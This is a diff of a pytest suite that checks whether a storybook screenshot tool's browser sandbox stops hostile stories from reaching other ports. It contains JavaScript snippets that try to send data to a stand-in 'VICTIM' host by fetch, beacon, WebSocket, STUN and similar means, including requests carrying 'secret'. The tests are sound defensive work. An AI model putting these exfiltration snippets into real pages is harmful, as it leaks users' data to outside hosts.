@@ -1,154 +1,142 @@
 """What a hostile story reaches: its own origin, and nothing else on this machine or beyond."""
 
-import asyncio
-from collections.abc import AsyncIterator
-from dataclasses import dataclass, field
+import json
+from collections.abc import AsyncIterator, Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 import pytest_asyncio
 
-from consumer.bundle_server import bundle_server
-from consumer.capture.browser import DETERMINISM, BrowserChoice, LaunchedBrowser
-from consumer.messages import WarningCode
-from tests.consumer.conftest import Opener, opener_on
-from tests.consumer.little_storybook import SQUARE, LittleStory, LittleStorybook
+from consumer.bundle_server import ServedBundle, bundle_server
+from consumer.capture.browser import DETERMINISM, BrowserChoice, LaunchedBrowser, browser_flags
+from consumer.capture.sitting import Picture
+from consumer.capture.studio import Studio
+from consumer.isolation import Form, Ground
+from consumer.messages import ErrorCode, Page, StoryWarning, WarningCode
+from storyshelf.clock import SystemClock
+from storyshelf.ids import ProjectId, StoryId
+from tests.consumer.conftest import HOST, ORDER, Opener, opener_on
+from tests.consumer.forms import captured, isolated, opened_in
+from tests.consumer.little_storybook import LittleStory, LittleStorybook, html
+from tests.consumer.roads import EVERY, LEAVING, ROADS, UNNAMED, Town
+from tests.consumer.test_supervisor_browser import a_supervisor
+from tests.storybooks.victim import Victim, victim
 
-pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.asyncio(loop_scope="module"),
+    pytest.mark.timeout(60),  # a browser for each form, and a story for each road that leaves
+]
 
-# Each tries to reach VICTIM (host:port) by another road, and none may wait for an answer for ever.
-ROADS = {
-    "fetch": "await fetch('http://VICTIM/fetch')",
-    "no_cors": "await fetch('http://VICTIM/no-cors', { mode: 'no-cors' })",
-    "localhost_name": "await fetch('http://localhost:PORT/name', { mode: 'no-cors' })",
-    "foreign_localhost": "await fetch('http://b2.localhost:PORT/other', { mode: 'no-cors' })",
-    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://VICTIM/xhr'); x.send()",
-    "image": "new Image().src = 'http://VICTIM/image'",
-    "style": "root.style.backgroundImage = 'url(http://VICTIM/style)'",
-    "font": "await new FontFace('f', 'url(http://VICTIM/font)').load()",
-    "beacon": "navigator.sendBeacon('http://VICTIM/beacon', 'secret')",
-    "form": (
-        "const f = document.createElement('form'); f.target = '_blank';"
-        " f.action = 'http://VICTIM/form'; document.body.append(f); f.submit()"
-    ),
-    "frame": (
-        "const f = document.createElement('iframe');"
-        " f.src = 'http://VICTIM/frame'; document.body.append(f)"
-    ),
-    "script": "await import('http://VICTIM/script.js')",
-    "prefetch": (
-        "const l = document.createElement('link'); l.rel = 'prefetch';"
-        " l.href = 'http://VICTIM/prefetch'; document.head.append(l)"
-    ),
-    "events": "new EventSource('http://VICTIM/events')",
-    "socket": "new WebSocket('ws://VICTIM/socket')",
-    "worker": (
-        "new Worker(URL.createObjectURL(new Blob("
-        "[\"fetch('http://VICTIM/worker', { mode: 'no-cors' })\"])))"
-    ),
-    "popup": "window.open('http://VICTIM/popup')",
-    "transport": "await new WebTransport('https://VICTIM/transport').ready",
-    "stun": (
-        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:VICTIM' }] });"
-        " c.createDataChannel('d'); await c.setLocalDescription(await c.createOffer())"
-    ),
-}
-
-
-@dataclass(slots=True)
-class Victim:
-    """A stranger's service on this machine: it counts who comes, by TCP or UDP."""
-
-    port: int = 0
-    hits: list[str] = field(default_factory=list)
-
-    async def on_connection(
-        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
-    ) -> None:
-        self.hits.append((await reader.read(100)).decode(errors="replace"))
-        writer.close()
-
-
-class Packets(asyncio.DatagramProtocol):
-    def __init__(self, victim: Victim) -> None:
-        self.victim = victim
-
-    def datagram_received(self, data: bytes, addr: object) -> None:
-        self.victim.hits.append(f"udp {data[:8]!r}")
+TOLD = (  # roads that are known by different means: reports of policies, the driver, our own script
+    "no_cors", "image", "beacon", "worker", "shared_worker", "service_worker", "socket",
+    "frame", "object", "transport", "popup", "form", "frame_missing",
+    "stun", "turn",
+)  # fmt: skip
 
 
 @pytest_asyncio.fixture(loop_scope="module")
-async def victim() -> AsyncIterator[Victim]:
-    victim = Victim()
-    server = await asyncio.start_server(victim.on_connection, "127.0.0.1", 0)
-    victim.port = server.sockets[0].getsockname()[1]
-    loop = asyncio.get_running_loop()
-    transport, _ = await loop.create_datagram_endpoint(
-        lambda: Packets(victim), local_addr=("127.0.0.1", victim.port)
-    )
-    yield victim
-    transport.close()
-    server.close()
-    await server.wait_closed()
+async def bystander() -> AsyncIterator[Victim]:
+    async with victim() as bystander:
+        yield bystander
 
 
-def hostile(road: str, port: int) -> LittleStory:
-    """Return a story that takes the road, and then waits for long enough for it to be seen."""
-    attempt = ROADS[road].replace("VICTIM", f"127.0.0.1:{port}").replace("PORT", str(port))
-    return LittleStory(
-        f"root.innerHTML = `{SQUARE}`; const own = await fetch('index.json');"
-        f"const go = async () => {{ {attempt}; }};"
-        "const late = new Promise((done) => setTimeout(done, 400));"
-        "await Promise.race([go().catch(() => {}), late]); await late;"
-        "if (!own.ok) throw new Error('the own origin did not answer');"
-    )
+@pytest.mark.parametrize("form", list(Form))
+async def test_no_road_leads_to_another_port(ground: Ground, bystander: Victim, form: Form) -> None:
+    isolation = await isolated(ground, form)
+    async with a_supervisor(isolation) as supervisor, supervisor.child(ProjectId(1)) as child:
+        await opened_in(child, Town(bystander.port).storybook())
+        whole = await captured(child, EVERY)
+        left = {name: await captured(child, name) for name in LEAVING}
+    assert bystander.hits == []
+    assert whole.error is None
+    codes = {name: one.error.code if one.error else None for name, one in left.items()}
+    assert codes == dict.fromkeys(LEAVING, ErrorCode.NAVIGATED_AWAY)
 
 
-@pytest.mark.parametrize("road", ROADS)
-async def test_a_story_does_not_reach_another_port_by(
-    opened: Opener, victim: Victim, road: str
+async def test_without_the_fence_the_roads_are_open(
+    browser_choice: BrowserChoice, bystander: Victim, tmp_path: Path
 ) -> None:
-    storybook = LittleStorybook(
-        {"hostile--story": hostile(road, victim.port)}, {"index.json": b"{}"}
-    )
-    stage = await opened(storybook)
-    picture = await stage.shoot("hostile--story")
-    assert victim.hits == []
-    assert picture.error is None
-
-
-async def test_the_victim_would_have_seen_a_visitor(victim: Victim) -> None:
-    """The fence test cannot pass for want of a victim."""
-    _, writer = await asyncio.open_connection("127.0.0.1", victim.port)
-    writer.write(b"GET / HTTP/1.1\r\n\r\n")
-    await writer.drain()
-    writer.close()
-    await writer.wait_closed()
-    async with asyncio.timeout(5):
-        while not victim.hits:
-            await asyncio.wait({asyncio.ensure_future(asyncio.to_thread(int))})
-    assert victim.hits == ["GET / HTTP/1.1\r\n\r\n"]
-
-
-async def test_what_was_held_back_is_told_in_the_warnings(opened: Opener, victim: Victim) -> None:
-    story = hostile("image", victim.port)
-    stage = await opened(LittleStorybook({"hostile--story": story}, {"index.json": b"{}"}))
-    picture = await stage.shoot("hostile--story")
-    blocked = [w.text for w in picture.warnings if w.code is WarningCode.BLOCKED_REQUEST]
-    assert blocked == [f"http://127.0.0.1:{victim.port}/image"]
-
-
-@pytest.mark.parametrize("road", ["stun", "popup"])
-async def test_without_the_flags_these_roads_are_open(
-    browser_choice: BrowserChoice, victim: Victim, tmp_path: Path, road: str
-) -> None:
-    """The roads are real ones, which the policy of the page alone does not close."""
-    storybook = LittleStorybook(
-        {"hostile--story": hostile(road, victim.port)}, {"index.json": b"{}"}
-    )
+    """The fence tests cannot pass for want of roads, or of a victim."""
+    storybook = Town(bystander.port).storybook()
     async with bundle_server() as server:
         browser = LaunchedBrowser(browser_choice, DETERMINISM)
-        async with opener_on(server, browser, tmp_path) as opener:
-            await (await opener(storybook)).shoot("hostile--story")
+        studio = Studio(browser, SystemClock())
+        keys = {file.path: file.key for file in storybook.lay(tmp_path)}
+        await studio.open(server.serve(ServedBundle(HOST, tmp_path, keys, policy="")))
+        for story in (EVERY, *LEAVING):
+            await shot(studio, story)
         await browser.stop()
-    assert victim.hits != []
+    seen = {hit.removeprefix("/").partition("?")[0] for hit in bystander.hits}
+    assert (ROADS.keys() | LEAVING.keys()) - UNNAMED.keys() - seen == set()
+    assert {"connection", "stun", "datagram"} - seen == set()
+
+
+async def shot(studio: Studio, story: str) -> Picture:
+    async def on_stage(_: object) -> None:
+        pass
+
+    return await studio.shoot(
+        replace(ORDER, story_id=StoryId(story)), Page.SHARED, 30_000, on_stage
+    )
+
+
+def blocked(warnings: tuple[StoryWarning, ...]) -> list[str]:
+    return [each.text for each in warnings if each.code is WarningCode.BLOCKED_REQUEST]
+
+
+@pytest.mark.parametrize("road", TOLD)
+async def test_an_attempt_is_told_with_the_story_that_made_it(
+    opened: Opener, bystander: Victim, road: str
+) -> None:
+    town = Town(bystander.port)
+    stories = {"hostile--story": town.road(road, ROADS[road]), "well--story": html("<b>well</b>")}
+    stage = await opened(town.with_files(stories))
+    told = blocked((await stage.shoot("hostile--story")).warnings)
+    assert len(told) == 1
+    assert f"://127.0.0.1:{bystander.port}" in told[0]
+    assert blocked((await stage.shoot("well--story")).warnings) == []
+
+
+async def test_attempts_are_counted_by_host(opened: Opener, bystander: Victim) -> None:
+    town = Town(bystander.port)
+    many = "for (let n = 0; n < 7; n++) fetch(`http://VICTIM/${n}?secret`).catch(() => {})"
+    story = town.road("many", f"{many}; new Image().src = 'http://b2.localhost:PORT/x'")
+    stage = await opened(town.with_files({"hostile--story": story}))
+    assert blocked((await stage.shoot("hostile--story")).warnings) == [
+        f"http://127.0.0.1:{bystander.port}/0 (this host 7 times)",
+        f"http://b2.localhost:{bystander.port}/x",
+    ]
+
+
+def no_fence(_port: int) -> tuple[str, ...]:
+    return DETERMINISM
+
+
+@pytest.mark.parametrize(("flags", "looks_up"), [(browser_flags, False), (no_fence, True)])
+async def test_no_name_is_looked_up(
+    browser_choice: BrowserChoice,
+    tmp_path: Path,
+    flags: Callable[[int], tuple[str, ...]],
+    *,
+    looks_up: bool,
+) -> None:
+    """By the browser's own log of its network; without the fence it shows that names were."""
+    hints = LittleStory(
+        "for (const rel of ['dns-prefetch', 'preconnect']) document.head.append("
+        "Object.assign(document.createElement('link'), { rel, href: `//${rel}.test` }));"
+        "window.open('http://popup.test/'); root.textContent = 'asked';"
+        "await new Promise((done) => setTimeout(done, 300));"
+    )
+    told = tmp_path / "net.json"
+    async with bundle_server() as server:
+        switches = (*flags(server.port), f"--log-net-log={told}")
+        browser = LaunchedBrowser(browser_choice, switches)
+        async with opener_on(server, browser, tmp_path) as opener:
+            await (await opener(LittleStorybook({"a--b": hints}))).shoot("a--b")
+        await browser.stop()
+    log = json.loads(told.read_text())
+    types = log["constants"]["logEventTypes"]
+    jobs = {types[name] for name in types if name.startswith("HOST_RESOLVER_MANAGER_JOB")}
+    assert any(event["type"] in jobs for event in log["events"]) == looks_up
